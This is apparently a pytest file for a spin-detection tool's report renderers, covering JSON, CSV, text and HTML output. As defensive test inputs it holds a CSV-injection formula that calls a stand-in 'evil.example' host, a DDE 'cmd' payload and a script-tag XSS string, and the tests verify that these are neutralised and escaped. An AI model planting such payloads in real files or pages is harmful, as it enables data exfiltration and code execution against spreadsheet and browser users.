"""Rendering: report formats, the HTML explanation page and evaluation metrics (spincheck.report)."""

from __future__ import annotations

import csv
import dataclasses
import html.parser
import io
import json
import re

import numpy as np
import pytest

from spincheck.detector import Document, Evidence, Paragraph, Result
from spincheck.inputs import Chunk
from spincheck.metrics import metrics_at, roc_auc, threshold_for_fpr
from spincheck.report import (
    CSV_COLUMNS,
    Row,
    document_records,
    make_reporter,
    paragraph_record,
    render_comparison,
    render_evaluation,
    render_html,
    write_html,
)

SPUN = Result(0.97, True, None, (Evidence("highest", 4, 11, "top", 0.91), Evidence("stated", 30, 36, None, 0.6)), 20)
CLEAN = Result(0.12, False, None, (), 18)
SHORT = Result(0.0, None, "too short", (), 3)


def report(fmt: str, chunks, **options) -> str:
    out = io.StringIO()
    reporter = make_reporter(fmt, out, **options)
    for chunk, paragraphs in chunks:
        reporter.add(chunk, paragraphs)
    reporter.close()
    return out.getvalue()


def one_document(source="doc.txt", record_id=None):
    return [(Chunk(source, 0, "", True, record_id), [(0, 40, SPUN), (42, 80, CLEAN), (82, 90, SHORT)])]


def test_paragraph_record_offsets_are_document_offsets():
    record = paragraph_record(Row("doc.txt", None, 3, 100, 140, SPUN))
    assert record == {
        "source": "doc.txt",
        "paragraph": 3,
        "start": 100,
        "end": 140,
        "words": 20,
        "probability": 0.97,
        "spun": True,
        "by_context": False,
        "evidence": [
            {"phrase": "highest", "start": 104, "end": 111, "suggestion": "top", "strength": 0.91},
            {"phrase": "stated", "start": 130, "end": 136, "suggestion": None, "strength": 0.6},
        ],
    }


def test_records_round_what_they_show():
    """Probabilities to 4 places (the summary's highest too), strengths to 3: the fixtures above
    round to themselves, so they could not tell."""
    fine = Result(0.971234, True, None, (Evidence("highest", 4, 11, "top", 0.912345),), 20)
    record = paragraph_record(Row("doc.txt", None, 0, 0, 40, fine))
    assert (record["probability"], record["evidence"][0]["strength"]) == (0.9712, 0.912)
    [document] = json.loads(report("json", [(Chunk("doc.txt", 0, "", True), [(0, 40, fine)])]))
    assert document["summary"]["highest_probability"] == 0.9712


def test_comparison_record_carries_the_match_and_the_result():
    from spincheck.compare import align
    from spincheck.report import comparison_record

    original = "The top official said it.\n\nThe top diplomat will hold talks with the leaders on Tuesday."
    copy = "The highest diplomat will maintain talks with the leaders on Tuesday."
    (match,) = align(original, copy).paragraphs
    context = Result(0.85123, True, None, (Evidence("highest", 4, 11, "top", 0.9),), 12, by_context=True)
    record = comparison_record("copy.txt", match, context)
    assert (record["original_paragraph"], record["label"], record["paragraph"]) == (1, 1, 0)
    assert (record["probability"], record["spun"], record["by_context"]) == (0.8512, True, True)
    assert record["replacements"] == [[4, 11, "top", "highest"], [26, 34, "hold", "maintain"]]  # offsets in the copy


def test_not_scored_paragraph_has_reason_and_no_probability():
    record = paragraph_record(Row("pages.jsonl:a1", "a1", 0, 0, 8, SHORT))
    assert record["id"] == "a1"
    assert record["probability"] is None and record["spun"] is None and record["reason"] == "too short"


def test_jsonl_indexes_and_offsets_run_across_chunks():
    chunks = [
        (Chunk("big.txt", 0, "", False), [(0, 40, SPUN), (42, 80, CLEAN)]),
        (Chunk("big.txt", 1000, "", False), []),
        (Chunk("big.txt", 2000, "", True), [(5, 45, CLEAN)]),
        (Chunk("other.txt", 0, "", True), [(0, 40, CLEAN)]),
    ]
    records = [json.loads(line) for line in report("jsonl", chunks).splitlines()]
    assert [(r["source"], r["paragraph"], r["start"], r["end"]) for r in records] == [
        ("big.txt", 0, 0, 40),
        ("big.txt", 1, 42, 80),
        ("big.txt", 2, 2005, 2045),
        ("other.txt", 0, 0, 40),
    ]


def test_jsonl_keeps_one_object_per_line_for_any_name():
    """json.dumps writes NEL, U+2028 and U+2029 raw: a file name or JSONL id holding one split
    its rows for str.splitlines() (and U+2028 ended a JavaScript string before ES2019)."""
    name = "crawl.jsonl:a\x85b\u2028c\u2029d\u00e9\U0001f600"
    out = report("jsonl", one_document(source=name, record_id=name[12:]))
    assert not {"\x85", "\u2028", "\u2029"} & set(out) and "\u00e9\U0001f600" in out  # the rest kept as text
    records = [json.loads(line) for line in out.splitlines()]
    assert [(r["source"], r["id"]) for r in records] == [(name, name[12:])] * 3


def test_json_is_one_object_per_document_with_summary():
    chunks = one_document() + one_document("pages.jsonl:7", record_id=7)
    documents = json.loads(report("json", chunks))
    assert [d["source"] for d in documents] == ["doc.txt", "pages.jsonl:7"]
    assert "id" not in documents[0] and documents[1]["id"] == 7
    assert documents[0]["summary"] == {
        "paragraphs": 3,
        "scored": 2,
        "not_scored": 1,
        "flagged": 1,
        "highest_probability": 0.97,
        "spun": True,
    }
    assert [p["paragraph"] for p in documents[0]["paragraphs"]] == [0, 1, 2]


def test_summaries_give_the_highest_probability_wherever_it_comes():
    """The highest probability of a document is that of its highest paragraph, not of its first one."""
    middling = Result(0.5, False, None, (), 15)
    chunks = [(Chunk("doc.txt", 0, "", True), [(0, 40, CLEAN), (42, 80, SPUN), (82, 90, SHORT), (92, 99, middling)])]
    [document] = json.loads(report("json", chunks))
    assert document["summary"]["highest_probability"] == 0.97
    summary = report("text", chunks).splitlines()[0]
    assert summary == "doc.txt: 4 paragraphs, 3 scored, 1 flagged, highest probability 0.970"


def test_json_without_documents_is_an_empty_array():
    assert json.loads(report("json", [])) == []


def test_json_writes_a_document_as_it_comes_as_one_dump_of_the_array_would():
    """The json format held a document's records and dumped them at its end: a 12 MB text
    peaked at 1 GB. Its paragraphs are now written chunk by chunk, in the bytes that dumping
    the whole array with indent=2 gives (empty, flagged-only and nested-id documents too)."""
    out = io.StringIO()
    reporter = make_reporter("json", out, model={"model_version": "1", "threshold": 0.9})
    reporter.add(Chunk("big.txt", 0, "", False), [(0, 40, SPUN), (42, 80, CLEAN)])
    assert '"paragraph": 1' in out.getvalue()  # written before the document ends
    reporter.add(Chunk("big.txt", 2000, "", True), [(5, 45, SHORT)])
    for chunk in (Chunk("empty.txt", 0, "", True), Chunk("r.jsonl:1", 0, "", True, {"k": ["a\u2028b", 1.5]})):
        reporter.add(chunk, [(0, 40, CLEAN)] if chunk.record_id else [])
    reporter.close()
    text = out.getvalue()
    assert text == json.dumps(json.loads(text), ensure_ascii=False, indent=2) + "\n"
    documents = json.loads(text)
    assert [len(d["paragraphs"]) for d in documents] == [3, 0, 1] and documents[2]["id"] == {"k": ["a\u2028b", 1.5]}
    assert [p["start"] for p in documents[0]["paragraphs"]] == [0, 42, 2005]
    assert documents[0]["summary"]["paragraphs"] == 3 and documents[0]["threshold"] == 0.9
    for listed in (report("json", []), report("json", one_document(), flagged_only=True)):
        assert listed == json.dumps(json.loads(listed), ensure_ascii=False, indent=2) + "\n"


def test_csv_has_header_and_a_row_per_paragraph():
    rows = list(csv.reader(io.StringIO(report("csv", one_document()))))
    assert rows[0] == list(CSV_COLUMNS)
    assert rows[1] == [
        "doc.txt",
        "0",
        "0",
        "40",
        "20",
        "0.9700",
        "true",
        "",
        "highest->top:0.91; stated->?:0.60",
        "false",
        "",
        "",
        "",
    ]
    assert rows[3] == ["doc.txt", "2", "82", "90", "3", "", "", "too short", "", "false", "", "", ""]


def test_records_write_a_numpy_id_of_any_kind_as_the_plain_value():
    # float32 is no float subclass, as float64 is: json.dumps refused its rows when they were written
    doc = Document((Paragraph(0, 0, 5, "Short", SHORT),), threshold=0.9)
    for given, plain in ((np.float32(1.5), 1.5), (np.int32(7), 7), (np.bool_(True), True)):
        (row,) = document_records(doc, "page", given)
        assert type(row["id"]) is type(plain) and json.loads(json.dumps(row))["id"] == plain


def test_csv_columns_added_later_come_after_the_first_ten():
    # readers that take columns by place (cut -f, a row[9] in a script) find the first ten as before
    first = ("source", "paragraph", "start", "end", "words", "probability", "spun", "reason", "evidence", "by_context")
    assert CSV_COLUMNS == (*first, "id", "record", "model_id")


def test_rows_of_records_say_which_record_and_which_model():
    """A JSONL record's rows carry its line (``record``) and every row the model's id: two
    records with one id, or an id that is another record's line number, had rows alike."""
    chunks = [
        (Chunk("a.jsonl:x", 0, "", True, "x", 1), [(0, 40, SPUN)]),
        (Chunk("a.jsonl:x", 0, "", True, "x", 2), [(0, 40, CLEAN)]),
        (Chunk("a.jsonl:4", 0, "", True, None, 3), []),  # an empty record: one row of its own
        (Chunk("a.jsonl:4", 0, "", True, 4, 4), [(0, 40, CLEAN)]),
        (Chunk("a.jsonl:true", 0, "", True, True, 5), [(0, 40, CLEAN)]),
        (Chunk("page.txt", 0, "", True), [(0, 40, CLEAN)]),
    ]
    model = {"model_version": "1", "model_id": "0123456789abcdef", "threshold": 0.9}
    rows = [json.loads(line) for line in report("jsonl", chunks, model=model).splitlines()]
    assert [(r["source"], r.get("id"), r.get("record"), r["model_id"]) for r in rows] == [
        ("a.jsonl:x", "x", 1, "0123456789abcdef"),
        ("a.jsonl:x", "x", 2, "0123456789abcdef"),
        ("a.jsonl:4", None, 3, "0123456789abcdef"),
        ("a.jsonl:4", 4, 4, "0123456789abcdef"),
        ("a.jsonl:true", True, 5, "0123456789abcdef"),
        ("page.txt", None, None, "0123456789abcdef"),
    ]
    table = list(csv.DictReader(io.StringIO(report("csv", chunks, model=model))))
    assert [(r["id"], r["record"], r["model_id"]) for r in table] == [
        ("x", "1", "0123456789abcdef"),
        ("x", "2", "0123456789abcdef"),
        ("", "3", "0123456789abcdef"),
        ("4", "4", "0123456789abcdef"),
        ("true", "5", "0123456789abcdef"),  # as JSON, as in its source name
        ("", "", "0123456789abcdef"),
    ]
    documents = json.loads(report("json", chunks, model=model))
    assert [d.get("record") for d in documents] == [1, 2, 3, 4, 5, None]


def test_csv_quotes_a_source_with_a_carriage_return():
    """A JSONL id (or a file name) holding a lone "\\r" went out unquoted: csv readers, and
    spreadsheets, split the row there."""
    out = report("csv", one_document(source="crawl.jsonl:a\rb", record_id="a\rb"))
    assert out.count("\r") == 6 and "\r\n" not in out  # source and id quote it in three rows; rows end in "\n"
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert [row[0] for row in rows] == ["source"] + ["crawl.jsonl:a\rb"] * 3 and {len(r) for r in rows} == {13}
    assert [row[10] for row in rows] == ["id"] + ["a\rb"] * 3


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_guards_text_from_the_input_that_a_spreadsheet_would_run_as_a_formula():
    """A file name or a crawled record's id starting "=HYPERLINK(" went into the csv as it was, and
    Excel or LibreOffice ran it as a formula (OWASP "CSV Injection"): such text cells get a "'"
    before them; numbers (a -5 id, offsets, probabilities) stay numbers, and jsonl keeps the text."""
    link = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    hostile = Result(0.97, True, None, (Evidence("@home", 4, 9, "-", 0.91),), 20)
    chunks = [
        (Chunk(link, 0, "", True, link, 1), [(0, 40, hostile)]),
        (Chunk("c.jsonl:-5 degrees", 0, "", True, "-5 degrees", 2), [(0, 40, CLEAN)]),
        (Chunk("c.jsonl:-5", 0, "", True, -5, 3), [(0, 40, CLEAN)]),
        (Chunk("+1 (555) 0100", 0, "", True, 2.5, 4), [(0, 40, CLEAN)]),
        (Chunk("\tpage.txt", 0, "", True, float("-inf"), 5), [(0, 40, CLEAN)]),
    ]
    model = {"model_version": "1", "model_id": "0123456789abcdef", "threshold": 0.9}
    rows = list(csv.DictReader(io.StringIO(report("csv", chunks, model=model), newline="")))
    assert [(r["source"], r["id"]) for r in rows] == [
        ("'" + link, "'" + link),
        ("c.jsonl:-5 degrees", "'-5 degrees"),
        ("c.jsonl:-5", "-5"),  # a number in the JSON: a number in the sheet
        ("'+1 (555) 0100", "2.5"),
        ("'\tpage.txt", "'-inf"),  # no number a spreadsheet reads
    ]
    assert rows[0]["evidence"] == "'@home->-:0.91"
    assert (rows[0]["start"], rows[0]["probability"], rows[0]["words"]) == ("0", "0.9700", "20")
    # what a program reads is unchanged
    records = [json.loads(line) for line in report("jsonl", chunks, model=model).splitlines()]
    assert [(r["source"], r.get("id")) for r in records[:3]] == [
        (link, link),
        ("c.jsonl:-5 degrees", "-5 degrees"),
        ("c.jsonl:-5", -5),
    ]
    assert records[0]["evidence"][0]["phrase"] == "@home" and records[0]["evidence"][0]["suggestion"] == "-"


def test_comparison_csv_guards_text_from_the_input_as_score_does():
    from spincheck.report import write_comparison_csv

    record = {
        "source": "=cmd|' /C calc'!A0",
        "paragraph": 0,
        "start": 10,
        "end": 60,
        "label": 1,
        "original_paragraph": 2,
        "overlap": 0.9,
        "words": 12,
        "probability": 0.9,
        "spun": True,
        "by_context": False,
        "replacements": [[0, 5, "-top", "+high"], [6, 9, "tall", "big"]],
        "evidence": [{"phrase": "+high", "start": 0, "end": 5, "suggestion": "@top", "strength": 0.9}],
    }
    out = io.StringIO()
    write_comparison_csv(out, [record], "0123456789abcdef")
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [(r["source"], r["copy_phrase"], r["original_phrase"], r["suggestion"]) for r in rows] == [
        ("'=cmd|' /C calc'!A0", "'+high", "'-top", "'@top"),
        ("'=cmd|' /C calc'!A0", "big", "tall", ""),
    ]
    assert [(r["swap_start"], r["swap_end"], r["overlap"], r["original_paragraph"]) for r in rows] == [
        ("10", "15", "0.9000", "2"),
        ("16", "19", "0.9000", "2"),
    ]
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())


def test_text_summary_comes_first_for_a_whole_document():
    lines = report("text", one_document()).splitlines()
    assert lines == [
        "doc.txt: 3 paragraphs, 2 scored, 1 flagged, highest probability 0.970",
        "  paragraph 0 at char 0: probability 0.970: highest -> top; stated -> ?",
    ]


def test_text_summary_says_paragraph_for_one():
    lines = report("text", [(Chunk("one.txt", 0, "", True), [(0, 40, CLEAN)])]).splitlines()
    assert lines == ["one.txt: 1 paragraph, 1 scored, 0 flagged, highest probability 0.120"]


def test_text_counts_group_thousands_as_the_written_note_does():
    """A crawl's summary said "14912 paragraphs" where the note after -o says "11,944"."""
    rows = [(i * 50, i * 50 + 40, CLEAN if i % 3 else SPUN) for i in range(1500)]
    chunks = [(Chunk("big.txt", 0, "", True), rows), (Chunk("b.txt", 0, "", True), [(0, 40, SPUN)])]
    lines = report("text", chunks).splitlines()
    assert lines[0] == "big.txt: 1,500 paragraphs, 1,500 scored, 500 flagged, highest probability 0.970"
    assert lines[-1] == "total: 2 documents, 2 with flagged paragraphs; 501 of 1,501 scored paragraphs flagged"


def test_text_streams_flagged_paragraphs_of_a_long_document_before_its_summary():
    out = io.StringIO()
    reporter = make_reporter("text", out)
    reporter.add(Chunk("big.txt", 0, "", False), [(0, 40, SPUN)])
    assert out.getvalue() == (
        "big.txt: (streamed; its summary follows its paragraphs)\n"
        "  paragraph 0 at char 0: probability 0.970: highest -> top; stated -> ?\n"
    )
    reporter.add(Chunk("big.txt", 300, "", False), [(0, 40, SPUN)])  # announced once, not per chunk
    reporter.add(Chunk("big.txt", 500, "", True), [(0, 40, CLEAN)])
    lines = out.getvalue().splitlines()
    assert [line.startswith("big.txt: (streamed") for line in lines] == [True, False, False, False]
    assert lines[-1] == "big.txt: 3 paragraphs, 3 scored, 2 flagged, highest probability 0.970"


def test_text_shows_the_strongest_evidence_and_counts_the_rest():
    shown_at_most = 8  # README: a flagged paragraph's line shows "its eight strongest pieces of evidence"
    many = tuple(Evidence(f"w{i}", i, i + 1, f"s{i}", 0.9 - i / 100) for i in range(shown_at_most + 3))
    spun = Result(0.99, True, None, many, 40)
    line = report("text", [(Chunk("doc.txt", 0, "", True), [(0, 60, spun)])]).splitlines()[1]
    shown = "; ".join(f"w{i} -> s{i}" for i in range(shown_at_most))
    assert line == f"  paragraph 0 at char 0: probability 0.990: {shown} (+3 more; --format jsonl lists all)"
    # the machine-readable formats keep every phrase
    record = json.loads(report("jsonl", [(Chunk("doc.txt", 0, "", True), [(0, 60, spun)])]))
    assert len(record["evidence"]) == shown_at_most + 3
    (row,) = csv.DictReader(io.StringIO(report("csv", [(Chunk("doc.txt", 0, "", True), [(0, 60, spun)])])))
    assert row["evidence"].split("; ") == [f"w{i}->s{i}:{0.9 - i / 100:.2f}" for i in range(shown_at_most + 3)]
    # one phrase over is counted too, and as many as are shown leave nothing to count
    one_over = Result(0.99, True, None, many[: shown_at_most + 1], 40)
    line = report("text", [(Chunk("doc.txt", 0, "", True), [(0, 60, one_over)])]).splitlines()[1]
    assert line.endswith(f"{shown} (+1 more; --format jsonl lists all)")
    all_shown = Result(0.99, True, None, many[:shown_at_most], 40)
    line = report("text", [(Chunk("doc.txt", 0, "", True), [(0, 60, all_shown)])]).splitlines()[1]
    assert line.endswith(f": {shown}")


def test_text_colour_only_when_asked():
    plain, coloured = io.StringIO(), io.StringIO()
    for out, color in ((plain, False), (coloured, True)):
        reporter = make_reporter("text", out, color=color)
        reporter.add(*one_document()[0])
    assert "\x1b[" not in plain.getvalue()
    assert "\x1b[31m" in coloured.getvalue()
    # same words once the colour codes are removed
    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured.getvalue()) == plain.getvalue()


class _Page(html.parser.HTMLParser):
    """Collects paragraphs and marks of an explanation page, and anything that needs a network."""

    def __init__(self) -> None:
        super().__init__()
        self.paragraphs: list[dict] = []
        self.marks: list[dict] = []
        self.external: list[str] = []
        self.scripts = 0
        self._in_mark = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            self.scripts += 1
        for key in ("src", "href"):
            if attrs.get(key) and not attrs[key].startswith("#"):
                self.external.append(attrs[key])
        if tag == "p" and "para" in attrs.get("class", "").split():
            self.paragraphs.append({**attrs, "marks": []})
        if tag == "mark" and self.paragraphs and "evidence" in attrs.get("class", "").split():
            self._in_mark = True
            self.marks.append({**attrs, "text": ""})
            self.paragraphs[-1]["marks"].append(self.marks[-1])

    def handle_endtag(self, tag):
        if tag == "mark":
            self._in_mark = False

    def handle_data(self, data):
        if self._in_mark:
            self.marks[-1]["text"] += data


def _document() -> Document:
    hostile = 'He said <script>alert("x")</script> & left; the highest official stated it.'
    start = hostile.index("highest")
    return Document(
        (
            Paragraph(
                0,
                0,
                len(hostile),
                hostile,
                Result(
                    0.99,
                    True,
                    None,
                    (
                        Evidence("highest", start, start + 7, "top", 0.9),
                        Evidence("stated", hostile.index("stated"), hostile.index("stated") + 6, None, 0.7),
                        Evidence("overlap", start + 2, start + 9, "bad", 0.5),  # overlaps the first: not marked
                    ),
                    14,
                ),
            ),
            Paragraph(1, len(hostile) + 2, len(hostile) + 12, "Short one.", Result(0.0, None, "too short", (), 2)),
            Paragraph(2, len(hostile) + 14, len(hostile) + 30, "A clean paragraph", Result(0.1, False, None, (), 14)),
        ),
        threshold=0.9,
    )


def test_html_page_marks_flagged_paragraphs_and_evidence():
    page = render_html(_document(), source="<doc & co>", model_version="0.1.0", threshold=0.9, spincheck_version="9.9")
    parsed = _Page()
    parsed.feed(page)
    classes = [p["class"].split() for p in parsed.paragraphs]
    assert ["flagged" in c for c in classes] == [True, False, False]
    assert "unscored" in classes[1] and "clean" in classes[2]
    assert [p["data-index"] for p in parsed.paragraphs] == ["0", "1", "2"]
    assert parsed.paragraphs[0]["data-probability"] == "0.9900"
    marks = parsed.paragraphs[0]["marks"]
    assert [(m["text"], m.get("data-suggestion")) for m in marks] == [("highest", "top"), ("stated", None)]
    assert marks[0]["title"] == "likely original: top (strength 0.90)"
    # hostile text is escaped, and the page needs no script and no network
    assert parsed.scripts == 0 and parsed.external == []
    assert "&lt;script&gt;alert" in page and "&lt;doc &amp; co&gt;" in page
    # header: verdict, model version and threshold; side list links to the flagged paragraph
    assert "Likely spun: 1 of 2 scored paragraphs flagged" in page
    assert "<dt>Model version</dt><dd>0.1.0</dd>" in page and "<dt>Threshold</dt><dd>0.9000</dd>" in page
    assert "Model id" not in page  # none given (the library's callers), no empty row
    named = render_html(_document(), source="x", model_version="1", threshold=0.9, spincheck_version="1", model_id="ab")
    assert "<dt>Model id</dt><dd>ab</dd>" in named
    assert '<a href="#p0">Paragraph 0</a>' in page
    # offsets: paragraphs into the document, marks into their paragraph; no probability unscored
    doc = _document()
    spans = [(p["data-start"], p["data-end"]) for p in parsed.paragraphs]
    assert spans == [(str(p.start), str(p.end)) for p in doc.paragraphs]
    assert "data-probability" not in parsed.paragraphs[1]
    evidence = doc.paragraphs[0].result.evidence
    assert [(m["data-start"], m["data-end"]) for m in marks] == [(str(e.start), str(e.end)) for e in evidence[:2]]
    assert marks[1]["title"] == "likely original: ? (strength 0.70)"


def test_html_page_lists_only_flagged_paragraphs_and_escapes_suggestions():
    """With explain, unflagged paragraphs carry evidence too: marked in the text, but the side
    list is of flagged ones. A suggestion with quotes stays inside its attribute."""
    text = "The highest official stated it plainly."
    quoted = Evidence("highest", 4, 11, 'a "top" & <best>', 0.8)
    doc = Document(
        (
            Paragraph(0, 0, len(text), text, Result(0.95, True, None, (quoted,), 14)),
            Paragraph(1, len(text) + 2, 2 * len(text) + 2, text, Result(0.3, False, None, (quoted,), 14)),
        ),
        threshold=0.9,
    )
    page = render_html(doc, source="x", model_version="1", threshold=0.9, spincheck_version="1")
    assert '<a href="#p0">Paragraph 0</a>' in page and '<a href="#p1">' not in page
    parsed = _Page()
    parsed.feed(page)
    assert [m["data-suggestion"] for m in parsed.marks] == ['a "top" & <best>'] * 2


def test_html_page_shows_bidirectional_controls_in_the_name_and_isolates_paragraphs():
    """U+202E in a file name made "report\u202etxt.exe" read as "reportexe.txt" in the title."""
    page = render_html(
        _document(), source="report\u202etxt.exe\u2067", model_version="1", threshold=0.9, spincheck_version="1"
    )
    assert "<title>spincheck: report&lt;U+202E&gt;txt.exe&lt;U+2067&gt;</title>" in page
    assert "\u202e" not in page.split("<article>")[0] and "\u2067" not in page  # nowhere in the head or header
    assert ".para { unicode-bidi: isolate;" in page  # text that reorders itself stays inside its paragraph


def test_html_page_isolates_evidence_phrases_in_the_side_list():
    """An evidence phrase spanning words can hold a bidirectional control of the text ("after
    \u202ethat"): in the side list, an override reversed the rest of its line ("was likely then
    0.93"). The phrase is isolated, as its paragraph is."""
    text = "We left after \u202ethat meeting ended."
    phrase = Evidence("after \u202ethat", 8, 19, "then", 0.93)
    doc = Document((Paragraph(0, 0, len(text), text, Result(0.95, True, None, (phrase,), 14)),), threshold=0.9)
    page = render_html(doc, source="x", model_version="1", threshold=0.9, spincheck_version="1")
    assert '<span class="phrase">after \u202ethat</span>' in page
    assert "aside .phrase { unicode-bidi: isolate; }" in page


def test_html_page_marks_evidence_at_either_end_of_a_paragraph_and_lists_it_in_text_order():
    # a paragraph may start with its odd phrase, or end in one with no full stop after it; the
    # evidence comes strongest first, and the page marks and lists it as the text reads
    text = "Highest officials stated the plan was a trio"
    marks = (Evidence("trio", len(text) - 4, len(text), "three", 0.95), Evidence("Highest", 0, 7, "Top", 0.9))
    doc = Document((Paragraph(0, 0, len(text), text, Result(0.95, True, None, marks, 8)),), threshold=0.9)
    page = render_html(doc, source="x", model_version="1", threshold=0.9, spincheck_version="1")
    parsed = _Page()
    parsed.feed(page)
    shown = [(m["text"], m["data-start"], m["data-end"]) for m in parsed.marks]
    assert shown == [("Highest", "0", "7"), ("trio", "40", "44")]
    assert re.findall(r'<span class="phrase">(\w+)</span>', page) == ["Highest", "trio"]


def test_html_page_holds_no_character_html_forbids_and_keeps_its_marks_in_place():
    """A control character of the text (an escape sequence saved from a terminal, a PDF's stray
    \\x02) went into the page as it was: a parse error in HTML, which validators reject. It is
    shown as its Control Pictures sign (U+241B for ESC), one character for one, so that each mark
    still covers its phrase."""
    text = "\x1b[1mThe\x1b[0m highest\x02 official\x7f stated\x85 it\ufffe \U0001ffff plainly\ud800."
    marks = [Evidence(w, text.index(w), text.index(w) + len(w), "x", 0.8) for w in ("highest", "stated")]
    doc = Document((Paragraph(0, 0, len(text), text, Result(0.95, True, None, tuple(marks), 14)),), threshold=0.9)
    page = render_html(doc, source="a\x1bb\x00.txt", model_version="1", threshold=0.9, spincheck_version="1")
    forbidden = re.compile("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufdd0-\ufdef\ufffe\uffff\U0001ffff]")
    assert forbidden.findall(page) == [] and page.encode("utf-8")
    assert "\u241b[1mThe\u241b[0m" in page and "<title>spincheck: a\u241bb\u2400.txt</title>" in page
    parsed = _Page()
    parsed.feed(page)
    assert [m["text"] for m in parsed.marks] == ["highest", "stated"]
    assert [(m["data-start"], m["data-end"]) for m in parsed.marks] == [(str(e.start), str(e.end)) for e in marks]
    # one character for one: the text before each mark is as long as its offset says
    shown = page.split('<span class="prob">0.950 flagged</span>')[1].split("</p>")[0]
    body = html.unescape(re.sub("<[^>]+>", "", shown))
    assert len(body) == len(text) and body[marks[1].start : marks[1].end] == "stated"


def test_html_page_shows_the_line_ends_of_the_text_as_line_ends():
    """Text wrapped with VT or NEL (line ends spincheck reads as such) showed "to\u240breplace" and
    "the\ufffdcouncil" on the page, as if undecodable: they are whitespace there, one for one."""
    text = "They voted to\x0breplace the\x85council with a\x1enew board."
    mark = Evidence("council", text.index("council"), text.index("council") + 7, "board", 0.8)
    doc = Document((Paragraph(0, 0, len(text), text, Result(0.95, True, None, (mark,), 10)),), threshold=0.9)
    page = render_html(doc, source="a.txt", model_version="1", threshold=0.9, spincheck_version="1")
    shown = page.split('<span class="prob">0.950 flagged</span>')[1].split("</p>")[0]
    body = html.unescape(re.sub("<[^>]+>", "", shown))
    assert body == "They voted to\nreplace the\ncouncil with a\nnew board."
    assert f'data-start="{mark.start}"' in shown and ">council</mark>" in shown


def test_html_page_is_written_a_paragraph_at_a_time():
    """The page was built as one string, about 14 times its text with evidence everywhere:
    explaining a 12 MB text peaked at 980 MB, 550 MB of it the page. write_html writes it in
    pieces no larger than a paragraph's, and they make render_html's page."""
    one = _document().paragraphs[0]
    doc = Document(tuple(dataclasses.replace(one, index=i) for i in range(200)), threshold=0.9)
    writes: list[str] = []

    class Pieces(io.StringIO):
        def write(self, text: str) -> int:
            writes.append(text)
            return len(text)

    options = {"source": "x", "model_version": "1", "threshold": 0.9, "spincheck_version": "1"}
    write_html(Pieces(), doc, **options)
    page = render_html(doc, **options)
    assert "".join(writes) == page and max(map(len, writes)) < len(page) / 20


def test_html_page_can_be_read_on_paper():
    """Printed, the side list's "Paragraph 2" could not be found without counting paragraphs (their
    numbers were only in links and attributes), the likely originals were only in hover titles, and
    the side panel kept its scroll box, cutting the list at a page's height."""
    text = "The highest official stated it plainly."
    mark = Evidence("highest", 4, 11, "top", 0.8)
    paragraphs = [
        Paragraph(i, 41 * i, 41 * i + len(text), text, Result(0.95, True, None, (mark,), 14)) for i in range(3)
    ]
    page = render_html(
        Document(tuple(paragraphs), threshold=0.9), source="x", model_version="1", threshold=0.9, spincheck_version="1"
    )
    numbers = re.findall(r'<p class="para [^>]*><span class="num">([^<]*)</span><span class="prob">', page)
    assert numbers == ["¶ 0", "¶ 1", "¶ 2"] and '<a href="#p2">Paragraph 2</a>' in page
    print_css = page.split("@media print {")[1].split("\n}\n")[0]
    assert ".layout { display: block;" in print_css and "max-height: none; overflow: visible;" in print_css
    assert '.para.flagged mark.evidence[data-suggestion]::after { content: " [" attr(data-suggestion) "]";' in print_css
    assert "print-color-adjust: exact" in print_css and ".paper { display: inline; }" in print_css


def test_html_page_shows_probabilities_as_score_does_so_one_each_side_of_the_threshold_differ():
    """Labels had two places: 0.958 and 0.964, either side of a threshold of 0.9632, both read
    "0.96", one of them flagged, where score prints 0.958 and 0.964."""
    text = "The highest official stated it plainly."
    paragraphs = tuple(
        Paragraph(i, 41 * i, 41 * i + len(text), text, Result(p, p >= 0.9632, None, (), 14))
        for i, p in enumerate((0.958, 0.964))
    )
    page = render_html(
        Document(paragraphs, threshold=0.9632), source="x", model_version="1", threshold=0.9632, spincheck_version="1"
    )
    labels = re.findall(r'<span class="prob">([^<]*)</span>', page)
    assert labels == ["0.958", "0.964 flagged"] and '<span class="strength">probability 0.964</span>' in page


def test_comparison_names_the_original_paragraphs_left_out_twenty_at_most():
    """The text said "28 of them not in the copy" without saying which; JSON names them all."""
    quality = {"covered_share": None, "suggestion_right_share": None}
    summary = {
        "copy": {"paragraphs": 0, "reworded": 0, "unchanged": 0, "not_from_original": 0},
        "original": {"paragraphs": 28, "left_out": 28, "left_out_paragraphs": list(range(28))},
        "swaps": 0,
        "scored": dict.fromkeys(("reworded", "unchanged", "not_from_original"), 0),
        "flagged": dict.fromkeys(("reworded", "unchanged", "not_from_original"), 0),
        "evidence": {"reworded": quality, "flagged_reworded": quality},
    }
    report = {"original": "a.txt", "copy": "b.txt", "threshold": 0.9, "summary": summary, "paragraphs": []}
    line = render_comparison(report).splitlines()[2]
    assert line == "  original     28 paragraphs, 28 of them not in the copy: " + ", ".join(map(str, range(20))) + (
        " and 8 more"
    )
    summary["original"].update(left_out=0, left_out_paragraphs=[])
    assert render_comparison(report).splitlines()[2] == "  original     28 paragraphs, 0 of them not in the copy"


def test_html_page_for_a_clean_document():
    doc = Document((Paragraph(0, 0, 17, "A clean paragraph", Result(0.1, False, None, (), 14)),), threshold=0.9)
    page = render_html(doc, source="x", model_version="1", threshold=0.9, spincheck_version="1")
    assert "No spun paragraphs found (1 scored)" in page and 'class="para flagged' not in page
    assert "No flagged paragraph; no evidence to list." in page


def test_html_page_lists_a_flagged_paragraph_without_evidence():
    """The header said "1 of 1 flagged" and the side panel "No flagged paragraph"."""
    doc = Document((Paragraph(0, 0, 17, "A plain paragraph", Result(0.95, True, None, (), 14)),), threshold=0.9)
    page = render_html(doc, source="x", model_version="1", threshold=0.9, spincheck_version="1")
    assert "Likely spun: 1 of 1 scored paragraphs flagged" in page
    assert "No flagged paragraph" not in page
    assert '<a href="#p0">Paragraph 0</a>' in page and "no single phrase stands out" in page


@pytest.mark.parametrize("seed", [0, 1, 2])
def test_roc_auc_agrees_with_scikit_learn(seed):
